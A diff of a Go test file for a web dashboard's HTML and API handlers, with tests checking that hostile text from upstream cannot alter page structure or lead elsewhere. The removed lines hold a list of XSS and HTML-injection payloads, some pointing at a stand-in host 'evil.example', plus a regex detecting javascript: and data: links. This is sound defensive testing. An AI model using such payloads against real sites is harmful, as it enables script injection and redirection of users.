@@ -2,207 +2,288 @@ package web
 
 import (
 	"context"
-	"fmt"
+	"encoding/json"
 	"net/http"
-	"net/http/httptest"
-	"regexp"
+	"net/url"
+	"reflect"
+	"slices"
 	"strings"
 	"testing"
 
 	"github.com/workdrift/workdrift/cmd/workdrift/internal/findings"
+	"github.com/workdrift/workdrift/cmd/workdrift/internal/hostile"
 	"github.com/workdrift/workdrift/scoring"
 	"github.com/workdrift/workdrift/scoring/objective"
 	"github.com/workdrift/workdrift/store"
 )
 
-// hostile returns a report and sources with a text wherever one can come from
-// a configuration or from upstream.
-func hostile(t *testing.T, text string) (*scoring.Report, []Source) {
-	r := fullReport(t)
+// hostileTexts is the corpus for the nth place that shows texts. Where the race
+// detector makes everything slow, each place gets one eighth, and the places
+// together all of it.
+func hostileTexts(t testing.TB, n int) []string {
+	t.Helper()
+	list, err := hostile.Texts()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !underRace {
+		return list
+	}
+	const parts = 8
+	var part []string
+	for i := n % parts; i < len(list); i += parts {
+		part = append(part, list[i])
+	}
+	return part
+}
+
+// A stage is a handler that shows one text wherever one can come from a
+// configuration or from upstream.
+type stage struct {
+	http.Handler
+	report  *scoring.Report
+	sources []Source
+	text    string
+	link    string // the address of items
+}
+
+// site is the server that the stage's sources are on.
+const site = "git.example"
+
+func newStage(t testing.TB) *stage {
+	s := &stage{report: fullReport(t)}
+	s.Handler = handler(t, nil, func(o *Options) {
+		o.Report = func() *scoring.Report { return s.report }
+		withEverything(t)(o)
+		o.Access = Access{Anyone: Triager}
+		o.Sites = func() []string { return []string{site} }
+		o.Sources = func() []Source { return s.sources }
+		o.Streams = func(context.Context) (*findings.Streams, error) { return s.streams(), nil }
+		o.Explain = func(_ context.Context, subject, window string) (*Explanation, error) {
+			return s.explanation(subject, window), nil
+		}
+		o.Declared = s.history
+		o.Overrides = func() []store.Override {
+			return []store.Override{{Key: s.text, To: s.text, Role: s.text, Why: s.text, At: noon}}
+		}
+		o.Findings = func(*scoring.Report) []findings.Finding {
+			return []findings.Finding{{ID: s.text, Text: s.text, Path: "/objectives/" + s.text, Objective: s.text}}
+		}
+	})
+	more, effort := s.report.Objectives[0], s.report.Windows[0].Org.Objectives[0]
+	s.report.Objectives = append(s.report.Objectives, more)
+	for i := range s.report.Windows {
+		w := &s.report.Windows[i]
+		w.Org.Objectives = append(w.Org.Objectives, effort)
+	}
+	s.show("harmless")
+	return s
+}
+
+// show replaces all texts. The report becomes another one, as answers are kept
+// for as long as there is no other.
+func (s *stage) show(text string) {
+	s.text, s.link = text, "https://"+site+"/"+url.PathEscape(text)
+	s.sources = []Source{{Name: text, Provider: text, Failure: text}}
+	r := *s.report
 	r.Late = []string{text}
 	o := &r.Objectives[0]
-	o.ID, o.Title, o.Owner, o.State = text, text, text, objective.State(text)
+	o.Title, o.Owner, o.State = text, text, objective.State(text)
+	r.Objectives[1] = *o
+	r.Objectives[1].ID = text
 	for i := range r.Windows {
 		w := &r.Windows[i]
-		w.Label = text
-		w.Org.Objectives[0].Objective = text
+		w.Org.Objectives[1].Objective = text
 		w.Org.Score(scoring.ShadowRoadmap).Verdict = text
 		w.Teams[0].Team = text
 	}
-	return r, []Source{{Name: text, Provider: text, Failure: text}}
+	s.report = &r
 }
 
-func TestHostileTextsLeaveThePageAlone(t *testing.T) {
-	plain := func(r *scoring.Report, s []Source) string { return pageAt(t, "/", r, s...) }
-	harmless := plain(hostile(t, "harmless"))
-	want := tags(harmless)
-	if len(want) < 100 || strings.Count(harmless, "harmless") < 6 {
-		t.Fatalf("only %d tags and %d places for a text: the test looks at the wrong page", len(want), strings.Count(harmless, "harmless"))
+func (s *stage) streams() *findings.Streams {
+	streams := someStreams(s.report)
+	for i := range streams.List {
+		x, one := &streams.List[i], []string{s.text}
+		x.Name, x.Title, x.By, x.Rule, x.Objective = s.text, s.text, s.text, s.text, s.text
+		x.Terms, x.Labels, x.Paths, x.Keys = one, one, one, one
 	}
-	withheld := func(text string) string {
-		r, s := hostile(t, text)
-		r.Windows[0].Org.Status, r.Windows[0].Org.Reason = scoring.SuppressedPrivacy, text
-		return plain(r, s)
+	return streams
+}
+
+func (s *stage) explanation(subject, window string) *Explanation {
+	x := anExplanation(s.report, subject, window)
+	for i := range x.Items {
+		it, one := &x.Items[i], []string{s.text}
+		it.Key, it.Title, it.Rule, it.PartOf, it.Method, it.Gone = s.text, s.text, s.text, s.text, s.text, s.text
+		it.Objectives, it.Path, it.OwnedBy = one, one, one
+		it.URL = []string{s.link, s.text, "https://" + s.text}[i%3]
 	}
-	wantWithheld := tags(withheld("harmless"))
-	effective := 0
-	for _, payload := range payloads {
-		body := plain(hostile(t, payload))
-		if got := tags(body); fmt.Sprint(got) != fmt.Sprint(want) {
-			t.Errorf("%q changes the page:\n%s", payload, body)
+	return x
+}
+
+func (s *stage) history() *findings.History {
+	h := aHistory()
+	for i := range h.Declared {
+		o := &h.Declared[i].Set.Objectives[0]
+		o.Text, o.Teams, o.Keys = s.text, []string{s.text}, []string{s.text}
+	}
+	for i := range h.Edits {
+		h.Edits[i].Objective = s.text
+	}
+	for i := range h.Members {
+		h.Members[i].Team = s.text
+	}
+	return h
+}
+
+// S7: whatever upstream wrote, a page has the elements and the attributes that
+// it has with a harmless text, and leads nowhere else.
+func TestHostileTextsLeavePagesAlone(t *testing.T) {
+	s, shown := newStage(t), 0
+	banner := strings.Count(s.page(t, "/methods"), "harmless")
+	for n, path := range pagePaths {
+		s.show("harmless")
+		body := s.page(t, path)
+		want, places := parsed(t, body).Outline(), strings.Count(body, "harmless")
+		if places <= banner {
+			continue // it shows nothing of its own
 		}
-		if got := tags(withheld(payload)); fmt.Sprint(got) != fmt.Sprint(wantWithheld) {
-			t.Errorf("%q changes the page of what is withheld", payload)
-		}
-		// The same text, not escaped, would be seen.
-		if raw := strings.ReplaceAll(harmless, "harmless", payload); fmt.Sprint(tags(raw)) != fmt.Sprint(want) {
-			effective++
+		shown += places
+		for _, text := range hostileTexts(t, n) {
+			s.show(text)
+			p := parsed(t, s.page(t, path))
+			got := p.Outline()
+			if i := differ(got, want); i >= 0 {
+				t.Errorf("%s: %.200q makes %q of %q", path, text, at(got, i), at(want, i))
+			}
+			if found := p.Dangers(site); len(found) > 0 {
+				t.Errorf("%s: %.200q: %q", path, text, found)
+			}
 		}
 	}
-	if effective < 25 {
-		t.Errorf("only %d of %d payloads would do anything", effective, len(payloads))
+	if banner == 0 || shown < 100 {
+		t.Errorf("the pages show a text in only %d places, and above themselves in %d", shown, banner)
 	}
 }
 
-// The same holds for what the other pages show: items, streams, decisions,
-// edits and what is asked for.
-func TestHostileTextsLeaveEveryPageAlone(t *testing.T) {
-	ask := func(path, text string) string {
-		r, sources := hostile(t, text)
-		for i := range r.Windows { // pages lead with this window
-			r.Windows[i].Label = []string{"7d", "28d", "91d", "quarter"}[i%4]
-		}
-		r.Objectives[0].ID = "sso"
-		h := handler(t, r, func(o *Options) {
-			withEverything(t)(o)
-			o.Access = Access{Anyone: Triager}
-			o.Sources = func() []Source { return sources }
-			streams := someStreams(r)
-			for i := range streams.List {
-				x := &streams.List[i]
-				x.Name, x.Title, x.By, x.Rule, x.Terms, x.Labels, x.Paths, x.Keys = text, text, text, text, []string{text}, []string{text}, []string{text}, []string{text}
-			}
-			o.Streams = func(context.Context) (*findings.Streams, error) { return streams, nil }
-			o.Explain = func(_ context.Context, subject, window string) (*Explanation, error) {
-				x := anExplanation(r, subject, window)
-				for i := range x.Items {
-					it := &x.Items[i]
-					it.Key, it.Title, it.Rule, it.PartOf, it.Method, it.Gone, it.URL = text, text, text, text, text, text, "https://h.example/"+text
-					it.Objectives, it.Path, it.OwnedBy = []string{text}, []string{text}, []string{text}
-				}
-				return x, nil
-			}
-			o.Overrides = func() []store.Override {
-				return []store.Override{{Key: text, To: text, Role: text, Why: text, At: noon}}
-			}
-			o.Findings = func(*scoring.Report) []findings.Finding {
-				return []findings.Finding{{ID: text, Text: text, Path: "/" + text}}
-			}
-		})
-		return askFrom(h, path).Body.String()
+// The same holds for the reasons why something is withheld.
+func TestHostileReasonsLeaveThePageAlone(t *testing.T) {
+	s := newStage(t)
+	withhold := func(text string) []string {
+		s.show(text)
+		s.report.Windows[0].Org.Status, s.report.Windows[0].Org.Reason = scoring.SuppressedPrivacy, text
+		return parsed(t, s.page(t, "/")).Outline()
 	}
-	for _, path := range []string{"/", "/objectives", "/objectives/sso", "/shadow", "/kill-list", "/changes", "/sources", "/decisions", "/explain?subject=x"} {
-		want := tags(ask(path, "harmless"))
-		for _, payload := range payloads {
-			body := ask(path, payload)
-			if got := tags(body); fmt.Sprint(got) != fmt.Sprint(want) {
-				t.Errorf("%s: %q changes the page", path, payload)
-			}
-			for _, tag := range rawTags(body) {
-				if lower := strings.ToLower(tag); leads.MatchString(lower) {
-					t.Errorf("%s: %q leads away: %s", path, payload, tag)
-				}
-			}
+	want := withhold("harmless")
+	for _, text := range hostileTexts(t, 0) {
+		if !slices.Equal(withhold(text), want) {
+			t.Errorf("%.200q changes the page", text)
 		}
 	}
 }
 
-// leads finds addresses that run something or lead elsewhere without saying so.
-var leads = regexp.MustCompile(`\s(?:href|action|src|formaction)="(?:javascript:|data:|//)`)
-
-// askFrom asks for a page.
-func askFrom(h http.Handler, path string) *httptest.ResponseRecorder { return ask(h, "GET", path) }
-
-// payloads break out of text, attributes, comments, scripts and templates.
-var payloads = []string{
-	`<script>alert(1)</script>`,
-	`<ScRiPt>alert(1)</sCrIpT>`,
-	`<script src=//evil.example/x.js></script>`,
-	`<script/x>alert(1)</script>`,
-	`<img src=x onerror=alert(1)>`,
-	`<img src="x" onerror="alert(1)"`,
-	`<svg onload=alert(1)>`,
-	`<svg><script>alert(1)</script></svg>`,
-	`<svg/onload=alert(1)//`,
-	`<body onload=alert(1)>`,
-	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
-	`<object data="javascript:alert(1)"></object>`,
-	`<embed src="javascript:alert(1)">`,
-	`<a href="javascript:alert(1)">click</a>`,
-	`<form action="//evil.example"><input name=q>`,
-	`<base href="//evil.example/">`,
-	`<meta http-equiv="refresh" content="0;url=//evil.example">`,
-	`<link rel=stylesheet href=//evil.example/x.css>`,
-	`<style>@import '//evil.example/x.css'</style>`,
-	`<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>`,
-	`</td></tr></table><h1>Workdrift was here</h1>`,
-	`</title><script>alert(1)</script>`,
-	`</svg><script>alert(1)</script>`,
-	`</main></body></html><script>alert(1)</script>`,
-	`--><script>alert(1)</script><!--`,
-	`<!--`,
-	`<!DOCTYPE html><p>`,
-	`<?xml version="1.0"?>`,
-	`]]><script>alert(1)</script>`,
-	`"><script>alert(1)</script>`,
-	`'><script>alert(1)</script>`,
-	`<x/onmouseover=alert(1)>`,
-	`<details open ontoggle=alert(1)>`,
-	`<marquee onstart=alert(1)>`,
-	"<img src=`x`onerror=alert(1)>",
-	"<\x00script>alert(1)</script>",
-	"<script\x0c>alert(1)</script>",
-	`" onmouseover="alert(1)`,
-	`' autofocus onfocus='alert(1)`,
-	`{{.Version}}{{template "status.html"}}`,
-	`&lt;script&gt;alert(1)&lt;/script&gt;`,
-	`javascript:alert(1)`,
-	"\u202e<script>alert(1)</script>",
-	"\xff\xfe<script>alert(1)</script>",
-	strings.Repeat("<b>", 500),
-}
-
-// tags returns the markup of a page in order, with the names of attributes: what
-// is left when texts are taken away. A tag begins where a browser sees one, at
-// a < before a letter, a slash, ! or ?, and ends at the next > outside quotes.
-var values = regexp.MustCompile(`="[^"]*"`)
-
-func tags(page string) []string {
-	list := rawTags(page)
-	for i := range list {
-		list[i] = values.ReplaceAllString(list[i], `=""`)
+func (s *stage) page(t *testing.T, path string) string {
+	t.Helper()
+	w := ask(s, "GET", path)
+	if w.Code != http.StatusOK {
+		t.Fatalf("%s with %.200q: %d %s", path, s.text, w.Code, w.Body)
 	}
-	return list
+	return w.Body.String()
 }
 
-// rawTags are tags with the values of their attributes.
-func rawTags(page string) []string {
-	var out []string
-	for i := 0; i+1 < len(page); i++ {
-		if c := page[i+1] | 0x20; page[i] != '<' || (c < 'a' || c > 'z') && !strings.ContainsRune("/!?", rune(page[i+1])) {
-			continue
+func parsed(t *testing.T, source string) hostile.Page {
+	t.Helper()
+	p, err := hostile.Parse(source)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+// differ returns where two lists differ first, -1 when they do not.
+func differ(a, b []string) int {
+	for i := range max(len(a), len(b)) {
+		if at(a, i) != at(b, i) {
+			return i
 		}
-		end, quote := i+1, byte(0)
-		for ; end < len(page) && (quote != 0 || page[end] != '>'); end++ {
-			switch c := page[end]; {
-			case quote == c:
-				quote = 0
-			case quote == 0 && (c == '"' || c == '\''):
-				quote = c
+	}
+	return -1
+}
+
+func at(list []string, i int) string {
+	if i < len(list) {
+		return list[i]
+	}
+	return "nothing"
+}
+
+// Answers of the API stay what they are, and tell every text as it is, but for
+// what no JSON can hold.
+func TestHostileTextsLeaveTheAPIAlone(t *testing.T) {
+	s := newStage(t)
+	routes := slices.DeleteFunc(apiRoutes(), func(rt route) bool { return rt.method != "GET" || strings.HasSuffix(rt.pattern, ".yaml") })
+	answer := func(rt *route) any {
+		w := call(s, rt, rt.pattern, distant)
+		var v any
+		if err := json.Unmarshal(w.Body.Bytes(), &v); err != nil || w.Code != http.StatusOK {
+			t.Fatalf("%s with %.200q: %d %v", rt.pattern, s.text, w.Code, err)
+		}
+		return v
+	}
+	told := 0
+	for i := range routes {
+		s.show("harmless")
+		want := answer(&routes[i])
+		for _, text := range hostileTexts(t, i) {
+			s.show(text)
+			s.link = "https://" + site + "/" + text
+			// A byte that is no part of a character becomes a mark.
+			n, same := alike(want, answer(&routes[i]), string([]rune(text)))
+			if !same {
+				t.Errorf("%s: %.200q changes the answer", routes[i].pattern, text)
 			}
+			told += n
 		}
-		out = append(out, page[i:min(end+1, len(page))])
-		i = end
 	}
-	return out
+	if told < 20*len(hostileTexts(t, 0)) {
+		t.Errorf("the answers tell a text in only %d places", told)
+	}
+}
+
+// alike reports whether an answer is another one but for the text that stands
+// where the other one has a harmless one, and in how many places it does.
+func alike(want, got any, text string) (places int, same bool) {
+	switch w := want.(type) {
+	case map[string]any:
+		g, ok := got.(map[string]any)
+		if !ok || len(g) != len(w) {
+			return 0, false
+		}
+		for key := range w {
+			n, ok := alike(w[key], g[key], text)
+			if !ok {
+				return 0, false
+			}
+			places += n
+		}
+		return places, true
+	case []any:
+		g, ok := got.([]any)
+		if !ok || len(g) != len(w) {
+			return 0, false
+		}
+		for i := range w {
+			n, ok := alike(w[i], g[i], text)
+			if !ok {
+				return 0, false
+			}
+			places += n
+		}
+		return places, true
+	case string:
+		if g, ok := got.(string); ok && strings.Contains(w, "harmless") {
+			return 1, g == strings.ReplaceAll(w, "harmless", text)
+		}
+	}
+	return 0, reflect.DeepEqual(want, got)
 }
